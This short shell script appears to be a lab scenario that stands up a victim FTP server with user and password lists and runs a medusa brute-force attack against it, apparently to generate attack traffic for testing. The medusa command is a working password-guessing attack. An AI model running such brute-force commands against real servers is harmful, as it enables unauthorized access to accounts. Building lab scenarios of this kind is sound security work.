# SPDX-License-Identifier: MIT
# label: bruteforce-ftp
# source: lab-medusa
# needs: medusa
# seconds: 60
# Passwords for ftp by medusa or ncrack.
. $lab/victims.sh

servers() {
	victim_ftp a
	words_up 60
	users_up 4
}

scenario() {
	_tasks=$(choose 1 2 5)
	setting options "-t $_tasks"
	attack x a tcp 21 -- timeout 50 medusa -h "$(addr a)" -U "$work/users" -P "$work/words" \
		-M ftp -t "$_tasks"
}
